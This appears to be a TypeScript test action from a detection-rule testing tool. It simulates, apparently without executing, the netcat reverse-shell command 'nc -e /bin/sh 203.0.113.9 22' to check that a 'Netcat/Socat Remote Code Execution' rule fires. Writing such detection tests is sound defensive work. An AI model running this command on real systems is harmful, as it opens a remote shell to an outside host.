import type { Action } from "../../action.js";

export const action: Action = {
  rule: "Netcat/Socat Remote Code Execution on Host",
  does: "starts an nc that does nothing with -e",
  disabled: true,
  run: (s) => s.pretend("nc -e /bin/sh 203.0.113.9 22"),
};
